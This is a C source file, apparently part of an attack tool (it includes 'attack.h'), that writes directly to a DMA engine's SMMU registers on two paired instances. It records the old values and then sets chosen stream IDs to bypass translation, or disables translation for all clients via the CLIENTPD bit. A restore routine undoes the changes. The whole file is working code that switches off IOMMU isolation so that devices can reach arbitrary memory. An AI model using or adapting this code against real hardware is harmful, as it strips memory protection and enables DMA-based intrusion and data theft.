// SPDX-License-Identifier: GPL-2.0-only
/*
 * Direct writes to the registers of the DMA engine's SMMU. The two instances of the pair
 * share the traffic, so both are written.
 */
#include "attack.h"
#include "smmu.h"

static const uint64_t instances[] = { NISO0_A, NISO0_B };

/* Old values to restore, latest first. */
static struct {
	uint64_t reg;
	uint32_t val;
} saved[32];
static unsigned int nr_saved;

static bool change(uint64_t reg, uint32_t clear, uint32_t set)
{
	uint32_t val, now;

	if (nr_saved == sizeof(saved) / sizeof(saved[0]) || !reg_read(reg, &val))
		return false;
	saved[nr_saved].reg = reg;
	saved[nr_saved++].val = val;
	val = (val & ~clear) | set;
	return reg_write(reg, val) && reg_read(reg, &now) && (now & (clear | set)) == set;
}

static bool bypass_in(uint64_t smmu, uint32_t sid)
{
	bool found = false;
	uint32_t smr;

	for (unsigned int n = 0; n < SMMU_NUM_SMRG; n++) {
		if (!reg_read(smmu + SMMU_SMR(n), &smr))
			return false;
		if (!(smr & SMMU_SMR_VALID) || (smr & SID_BITS) != sid)
			continue;
		if (!change(smmu + SMMU_S2CR(n), SMMU_S2CR_TYPE, SMMU_S2CR_BYPASS))
			return false;
		found = true;
	}
	return found;
}

bool smmu_bypass_stream(uint32_t sid)
{
	return bypass_in(instances[0], sid) && bypass_in(instances[1], sid);
}

bool smmu_bypass_all(void)
{
	return change(instances[0] + SMMU_SCR0, 0, SMMU_SCR0_CLIENTPD) &&
	       change(instances[1] + SMMU_SCR0, 0, SMMU_SCR0_CLIENTPD);
}

void smmu_restore(void)
{
	while (nr_saved) {
		nr_saved--;
		reg_write(saved[nr_saved].reg, saved[nr_saved].val);
	}
}
